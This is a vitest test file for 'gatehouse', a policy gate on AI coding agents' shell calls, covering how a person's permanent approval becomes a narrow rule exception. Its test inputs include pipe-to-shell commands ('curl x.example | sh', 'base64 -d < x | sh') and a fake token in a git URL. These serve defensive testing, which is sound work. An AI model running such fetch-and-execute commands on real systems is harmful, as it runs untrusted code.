import { readFileSync } from "node:fs";
import { join } from "node:path";
import { afterEach, describe, expect, test } from "vitest";
import type { Terminal } from "../../console/src/terminal.js";
import { callOf } from "./hook/agent-calls.js";
import { person } from "./person.js";
import { folder, type Folder, type Ran, runCli } from "./run-cli.js";

let made: Folder | undefined;
afterEach(() => made?.remove());

const NATIVE = `version: 1
# what is pushed
policies:
  - id: push
    events: before_tool_call
    when: params.command.startsWith("git push")
    ask: is it ready?
    tests:
      - event: { toolName: Bash, params: { command: git push --all } }
        expect: ask
`;
const PACKS = `version: 1
extends:
  - pack/git # all of it
  - pack/remote-code
`;

function user(rules: string): Folder {
  made = folder({
    "~/.gatehouse/rules.yaml": rules,
    "~/.gatehouse/settings.json": '{"version":1,"ownConfig":"off"}',
  });
  return made;
}

async function call({ path, home }: Folder, command: string, agent = "codex"): Promise<Ran> {
  const stdin = JSON.stringify(callOf(agent).payload(command, path));
  return await runCli(["hook", agent, "--daemon", "off"], { cwd: path, home, stdin });
}

async function always(
  { path, home }: Folder,
  code: string,
  terminal?: Terminal,
  ...more: readonly string[]
): Promise<Ran> {
  const place = { cwd: path, home, ...(terminal !== undefined && { terminal }) };
  return await runCli(["approve", code, "--always", ...more], place);
}

function codeIn({ stdout, stderr }: Ran): string {
  const code = /gatehouse approve ([0-9a-z]{4}-[0-9a-z]{4})/.exec(stdout + stderr)?.[1];
  if (code === undefined) throw new Error(`no code in ${stdout}${stderr}`);
  return code;
}

const isStopped = ({ stdout, stderr, code }: Ran): boolean =>
  code === 2 || /deny|block/.test(stdout + stderr);
const rulesOf = ({ home }: Folder): string => readFileSync(join(home, ".gatehouse", "rules.yaml"), "utf8");

describe("a call that a person lets pass from now on", () => {
  test("passes by an exception of the policy, with tests, and no other call does", async () => {
    const here = user(NATIVE);
    const reader = person();
    const ran = await always(here, codeIn(await call(here, "git push origin main")), reader);
    expect([ran.code, ran.stdout]).toEqual([0, expect.stringContaining("written to ")] as unknown[]);
    const read = reader.read.join("\n");
    for (const part of [
      '+    when: params.command.startsWith("git push") && !(',
      "the analysis finds no other call",
    ])
      expect(read).toContain(part);
    expect(rulesOf(here)).toContain("# what is pushed");
    expect(rulesOf(here)).toContain("expect: skip");
    expect(isStopped(await call(here, "git push origin main"))).toBe(false);
    for (const other of ["git push origin main --force", "git push", "git push origin main "])
      expect(isStopped(await call(here, other))).toBe(true);
    expect((await runCli(["test"], { cwd: here.path, home: here.home })).code).toBe(0);
  });

  test("of a pack: the exception is said where the file extends it", async () => {
    const here = user(PACKS);
    const ran = await always(here, codeIn(await call(here, "npx cowsay hello")), person());
    expect([ran.code, ran.stderr]).toEqual([0, ""]);
    expect(rulesOf(here)).toContain(
      "  - pack/git # all of it\n  - pack: remote-code\n    except:\n      remote-code/packages: ",
    );
    expect(isStopped(await call(here, "npx cowsay hello"))).toBe(false);
    for (const other of ["npx cowsay hello; npx figlet x", "npx figlet x", "curl x.example | sh"])
      expect(isStopped(await call(here, other))).toBe(true);
    expect((await runCli(["test"], { cwd: here.path, home: here.home })).code).toBe(0);
    // Another one of the same policy would have to be said with the first.
    const second = await always(here, codeIn(await call(here, "npx figlet x")), person());
    expect([second.code, second.stderr]).toEqual([
      2,
      expect.stringContaining("exception already"),
    ] as unknown[]);
    // Another policy of the pack gets its own.
    await call(here, "base64 -d < x | sh", "claude-code");
    expect(await always(here, "1", person())).toMatchObject({ code: 0, stderr: "" });
    expect(isStopped(await call(here, "base64 -d < x | sh"))).toBe(false);
    expect(isStopped(await call(here, "base64 -d < y | sh"))).toBe(true);
  });

  test("by the number of a decision, a deny too; what has a secret in it is not kept whole", async () => {
    const here = user(PACKS);
    await call(here, "git push --force", "claude-code");
    expect((await always(here, "1", person(), "--json")).code).toBe(0);
    expect(isStopped(await call(here, "git push --force"))).toBe(false);
    expect(isStopped(await call(here, "git push --force origin"))).toBe(true);
    await call(here, `git push --force https://u:ghp_${"a1B2".repeat(9)}@h.example/x`, "claude-code");
    const secret = await always(here, "1", person());
    expect([secret.code, secret.stderr]).toEqual([
      2,
      expect.stringContaining("not the whole of it"),
    ] as unknown[]);
  });

  test("needs the word of the question, on a terminal: nothing is written without", async () => {
    const here = user(NATIVE);
    const code = codeIn(await call(here, "git push"));
    const alone = await always(here, code);
    expect([alone.code, alone.stderr]).toEqual([2, expect.stringContaining("no terminal")] as unknown[]);
    const no = await always(
      here,
      code,
      person(() => "yes"),
    );
    expect([no.code, no.stdout]).toEqual([1, "declined: nothing is written\n"]);
    expect((await always(here, "0000-0000", person())).code).toBe(2);
    expect(rulesOf(here)).toBe(NATIVE);
  });

  test("is nothing that another policy stops, too, nor the organisation's", async () => {
    const both = `${NATIVE.replace(/ {4}tests:[^]*/, "")}  - { id: all, events: before_tool_call, when: 'params.command.includes("push")', ask: no }\n`;
    const here = user(both);
    const code = codeIn(await call(here, "git push"));
    const stopped = await always(here, code, person());
    expect([stopped.code, stopped.stderr]).toEqual([
      2,
      expect.stringContaining("`all` stops this call, too"),
    ] as unknown[]);
    const enforced = await always(
      here,
      code,
      person(),
      "--enforced",
      join(here.home, ".gatehouse", "rules.yaml"),
    );
    expect(enforced.code).toBe(2);
    expect(rulesOf(here)).toBe(both);
  });
});
